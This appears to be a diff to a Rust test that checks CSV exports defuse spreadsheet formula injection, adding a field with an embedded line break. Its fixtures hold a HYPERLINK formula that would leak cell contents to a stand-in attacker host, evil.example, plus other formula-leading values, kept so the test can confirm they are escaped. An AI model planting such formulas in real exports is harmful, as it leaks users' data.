@@ -438,7 +438,8 @@ fn csv_fields_cannot_be_formulas_and_v1_exports_still_verify() {
             if i % 2 == 1 {
                 r["subject"]["id"] = json!("=HYPERLINK(\"http://evil.example/\"&A1,\"open\")");
                 r["action"]["name"] = json!("-2+3");
-                r["reasons"] = json!(["@SUM(1)", "fine"]);
+                // A line break in a field: the CSV row spans two lines.
+                r["reasons"] = json!(["@SUM(1)", "fine\nline two"]);
             }
             leaf_at(&r, &format!("2026-11-23T08:00:{i:02}Z"))
         })
@@ -459,10 +460,10 @@ fn csv_fields_cannot_be_formulas_and_v1_exports_still_verify() {
     let row = csv.lines().nth(2).unwrap();
     assert!(
         row.contains(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"open\"\")\",")
-            && row.contains(",'-2+3,")
-            && row.ends_with(",'@SUM(1); fine"),
+            && row.contains(",'-2+3,"),
         "{row}"
     );
+    assert!(csv.contains(",\"'@SUM(1); fine\nline two\"\n"), "{csv}");
     assert!(csv.lines().nth(1).unwrap().contains(",alice@example.com,"));
 
     // The same leaves with their fields as given: an export@v1 verifies,
